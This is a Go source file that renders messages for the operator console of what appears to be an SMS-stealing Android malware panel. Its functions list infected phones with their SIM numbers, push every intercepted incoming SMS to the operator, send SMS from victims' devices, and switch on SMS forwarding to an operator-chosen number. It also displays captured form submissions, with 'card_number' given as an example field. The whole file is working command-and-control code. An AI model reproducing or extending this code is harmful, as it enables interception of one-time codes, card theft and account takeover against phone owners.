package console

import (
	"fmt"
	"sort"
	"strings"
	"time"
	"unicode"

	"github.com/relaydesk/relaydesk-core/internal/command"
	"github.com/relaydesk/relaydesk-core/internal/device"
	"github.com/relaydesk/relaydesk-core/internal/event"
	"github.com/relaydesk/relaydesk-core/internal/form"
	"github.com/relaydesk/relaydesk-core/internal/message"
	"github.com/relaydesk/relaydesk-core/internal/session"
)

const divider = "================================"

// Operator-facing texts that tests and the bridge refer to.
const (
	textPermissionDenied = "❌ Permission denied."
	textNotAllowed       = "❌ Not allowed"
	textReady            = "✅ Admin Panel Ready"
	textNoDevices        = "🚫 No devices connected."
	textCancelled        = "❎ Cancelled."
	textUnavailable      = "Device offline/unavailable"
	textNoMore           = "No more messages."
	textUnknownAction    = "Unknown action"
	textQueueFailed      = "⚠️ Could not queue the command. Please try again."
)

func orDefault(s, fallback string) string {
	if strings.TrimSpace(s) == "" {
		return fallback
	}
	return s
}

func formatTime(ms int64, loc *time.Location) string {
	if ms <= 0 {
		return "N/A"
	}
	return time.UnixMilli(ms).In(loc).Format("02/01/2006, 03:04 PM")
}

func batteryText(b int) string {
	if b <= 0 {
		return "N/A"
	}
	return fmt.Sprintf("%d", b)
}

// formatDevice renders one device card body.
func formatDevice(d device.Device, online bool) string {
	status := "🔴 Offline"
	if online {
		status = "🟢 Online"
	}
	return fmt.Sprintf("📱 **%s**\n🪪 SIM1: %s\n🪪 SIM2: %s\n🔋 Battery: %s%%\n🌐 %s",
		orDefault(d.Model, "Unknown"),
		orDefault(d.SIM1, "N/A"),
		orDefault(d.SIM2, "N/A"),
		batteryText(d.Battery),
		status,
	)
}

func (c *Console) signature() string {
	if c.developer == "" {
		return ""
	}
	return "\n\n👨‍💻 Developer: " + c.developer
}

// menu is the root keyboard shown by /start.
func menu() Message {
	return Message{
		Text: textReady,
		Buttons: [][]Button{
			{{Text: "Connected devices", Value: menuPayload(cmdDevices)}},
			{{Text: "Send SMS", Value: menuPayload(cmdSend)}},
			{{Text: "Receive SMS", Value: menuPayload(cmdReceive)}},
			{{Text: "SMS Forward", Value: menuPayload(cmdForward)}},
		},
	}
}

func (c *Console) deviceList() Message {
	devices := c.registry.List()
	if len(devices) == 0 {
		return Message{Text: textNoDevices}
	}
	var b strings.Builder
	for _, d := range devices {
		b.WriteString(formatDevice(d, c.registry.IsOnline(d)))
		fmt.Fprintf(&b, "\nUUID: `%s`\n\n", d.ID)
	}
	return Message{Text: strings.TrimRight(b.String(), "\n")}
}

func (c *Console) devicePicker(flow session.Flow) Message {
	devices := c.registry.List()
	if len(devices) == 0 {
		return Message{Text: textNoDevices}
	}
	rows := make([][]Button, 0, len(devices))
	for _, d := range devices {
		rows = append(rows, []Button{{Text: d.DisplayName(), Value: session.PickDevice(flow, d.ID).String()}})
	}
	title := "📤 Select device to send SMS:"
	if flow == session.FlowForward {
		title = "📨 Select device for SMS Forward:"
	}
	return Message{Text: title, Buttons: rows}
}

func (c *Console) slotPicker(flow session.Flow, deviceID string) Message {
	name := deviceID
	if d, ok := c.registry.Get(deviceID); ok {
		name = d.DisplayName()
	}
	title := fmt.Sprintf("📤 Choose SIM for %s:", name)
	if flow == session.FlowForward {
		title = fmt.Sprintf("📨 Choose SIM for SMS Forward on %s:", name)
	}
	return Message{
		Text: title,
		Buttons: [][]Button{
			{
				{Text: "SIM1", Value: session.PickSlot(flow, deviceID, 1).String()},
				{Text: "SIM2", Value: session.PickSlot(flow, deviceID, 2).String()},
			},
			{{Text: "⬅️ Back", Value: session.BackToDevices(flow).String()}},
		},
	}
}

func modePicker(deviceID string, sim int) Message {
	return Message{
		Text: fmt.Sprintf("SMS Forward SIM%d:", sim),
		Buttons: [][]Button{
			{
				{Text: "Enable", Value: session.PickMode(deviceID, sim, true).String()},
				{Text: "Disable", Value: session.PickMode(deviceID, sim, false).String()},
			},
			{{Text: "⬅️ Back", Value: session.PickDevice(session.FlowForward, deviceID).String()}},
		},
	}
}

// renderPage renders one page of a device's message log. first marks the
// initial "Receive SMS" listing, which uses a "Last N" header.
func (c *Console) renderPage(deviceID string, page message.Page, first bool) Message {
	name := deviceID
	if d, ok := c.registry.Get(deviceID); ok {
		name = d.DisplayName()
	}

	var b strings.Builder
	if first {
		fmt.Fprintf(&b, "📚 **Last %d of %d - %s**\n%s\n", len(page.Items), page.Total, name, divider)
	} else {
		fmt.Fprintf(&b, "📚 **Messages %d-%d of %d - %s**\n%s\n", page.Offset+1, page.End(), page.Total, name, divider)
	}
	for i, rec := range page.Items {
		fmt.Fprintf(&b, "#%d\nFrom: %s\n%s\nTime: %s\n\n", page.Offset+i+1, rec.From, rec.Body, formatTime(rec.Timestamp, c.loc))
	}

	var nav []Button
	if page.Offset > 0 {
		prev := page.Offset - c.pageSize
		if prev < 0 {
			prev = 0
		}
		nav = append(nav, Button{Text: fmt.Sprintf("⬅️ Prev %d", c.pageSize), Value: session.PageMessages(deviceID, prev).String()})
	}
	if page.HasNext() {
		nav = append(nav, Button{Text: fmt.Sprintf("Next %d ➡️", c.pageSize), Value: session.PageMessages(deviceID, page.Offset+c.pageSize).String()})
	}

	msg := Message{Text: strings.TrimRight(b.String(), "\n")}
	if len(nav) > 0 {
		msg.Buttons = [][]Button{nav}
	}
	return msg
}

// renderResult turns a session result into the reply for the operator.
// It returns false when nothing should be sent.
func (c *Console) renderResult(res session.Result) (Message, bool) {
	s := res.Session
	switch res.Outcome {
	case session.OutcomeChooseDevice:
		return c.devicePicker(s.Flow), true
	case session.OutcomeChooseSlot:
		return c.slotPicker(s.Flow, res.DeviceID), true
	case session.OutcomeChooseMode:
		return modePicker(res.DeviceID, s.SIM), true
	case session.OutcomePromptNumber:
		if s.Flow == session.FlowForward {
			return Message{Text: fmt.Sprintf("📨 Enter number to forward SMS TO (SIM%d). Type **cancel** to abort.", s.SIM)}, true
		}
		return Message{Text: fmt.Sprintf("📱 Enter number to send SMS (SIM%d). Type **cancel** to abort.", s.SIM)}, true
	case session.OutcomeInvalidNumber:
		return Message{Text: "⚠️ Invalid number. Send in international or local digits (8–15). Or type **cancel**."}, true
	case session.OutcomePromptText:
		return Message{Text: fmt.Sprintf("✍️ Enter message text (max %d chars). Or type **cancel**.", c.textLimit)}, true
	case session.OutcomeEmptyText:
		return Message{Text: "⚠️ Message text is empty. Enter message text or type **cancel**."}, true
	case session.OutcomeCancelled:
		return Message{Text: textCancelled}, true
	case session.OutcomeTargetUnavailable:
		return Message{Text: "🚫 " + textUnavailable + ". Command not queued."}, true
	case session.OutcomeCommitted:
		return c.renderCommitted(res.DeviceID, res.Command), true
	default:
		return Message{}, false
	}
}

func (c *Console) renderCommitted(deviceID string, cmd command.Command) Message {
	name := deviceID
	if d, ok := c.registry.Get(deviceID); ok {
		name = d.DisplayName()
	}
	switch cmd.Type {
	case command.KindSendSMS:
		return Message{Text: fmt.Sprintf("📤 SMS queued\n📱 Device: %s\n🪪 SIM: %d\nTo: %s\n📝 Message: %s", name, cmd.SIM, cmd.To, cmd.Message)}
	case command.KindForward:
		if cmd.Action == command.ForwardOn {
			return Message{Text: fmt.Sprintf("✅ SMS Forward ON SIM%d → %s\n📱 Device: %s%s", cmd.SIM, cmd.Number, name, c.signature())}
		}
		return Message{Text: fmt.Sprintf("✅ SMS Forward OFF SIM%d\n📱 Device: %s%s", cmd.SIM, name, c.signature())}
	default:
		return Message{Text: "✅ Queued: " + cmd.Summary()}
	}
}

// Notification bodies.

func (c *Console) renderConnected(e event.Event) Message {
	d := device.Device{ID: e.DeviceID}
	online := false
	if e.Device != nil {
		d = *e.Device
		online = d.Online(e.Time, c.registry.OnlineWindow())
	}
	return Message{Text: "📲 **Device Connected**\n" + formatDevice(d, online) + c.signature()}
}

func (c *Console) renderIncoming(e event.Event) Message {
	d := device.Device{ID: e.DeviceID, Attributes: device.Attributes{Model: e.DeviceID}}
	if e.Device != nil {
		d = *e.Device
	}
	rec := message.Record{}
	if e.Message != nil {
		rec = *e.Message
	}
	lines := []string{
		"📱 **NEW MESSAGE RECEIVED** 📱",
		"",
		"📜 Device Numbers 📜",
		divider,
		"• Model: " + orDefault(d.Model, "Unknown"),
		"🪪 SIM1: " + orDefault(d.SIM1, "Not Found"),
		"🪪 SIM2: " + orDefault(d.SIM2, "Not Found"),
		"",
		"🃏 Message Details 🃏",
		divider,
		"• From: " + rec.From,
		"📧 Message Preview: " + rec.Body,
		"⏳ TimeStamp: " + formatTime(rec.Timestamp, c.loc),
	}
	return Message{Text: strings.Join(lines, "\n")}
}

func (c *Console) renderSendStatus(e event.Event) Message {
	st := event.SendStatus{}
	if e.Send != nil {
		st = *e.Send
	}
	if st.Sent() {
		return Message{Text: fmt.Sprintf("✅ **SMS Sent**\n📱 Device: %s\nTo: %s\nMessage: %s", e.DisplayName(), st.To, st.Message)}
	}
	return Message{Text: fmt.Sprintf("❌ **SMS Failed**\n📱 Device: %s\nTo: %s\nError: %s", e.DisplayName(), st.To, orDefault(st.Error, "Unknown"))}
}

func (c *Console) renderForm(e event.Event) Message {
	battery := "N/A"
	if e.Device != nil {
		battery = batteryText(e.Device.Battery)
	}

	var b strings.Builder
	fmt.Fprintf(&b, "🧾 **Form Submitted**\n📱 %s\n🔋 Battery: %s%%\n", e.DisplayName(), battery)
	for _, k := range sortedKeys(e.Form) {
		fmt.Fprintf(&b, "🔸 **%s**: %v\n", fieldLabel(k), e.Form[k])
	}
	return Message{Text: strings.TrimRight(b.String(), "\n") + c.signature()}
}

func sortedKeys(f form.Fields) []string {
	keys := make([]string, 0, len(f))
	for k := range f {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	return keys
}

// fieldLabel turns "card_number" into "Card Number".
func fieldLabel(key string) string {
	words := strings.Fields(strings.ReplaceAll(key, "_", " "))
	for i, w := range words {
		r := []rune(w)
		r[0] = unicode.ToUpper(r[0])
		words[i] = string(r)
	}
	return strings.Join(words, " ")
}
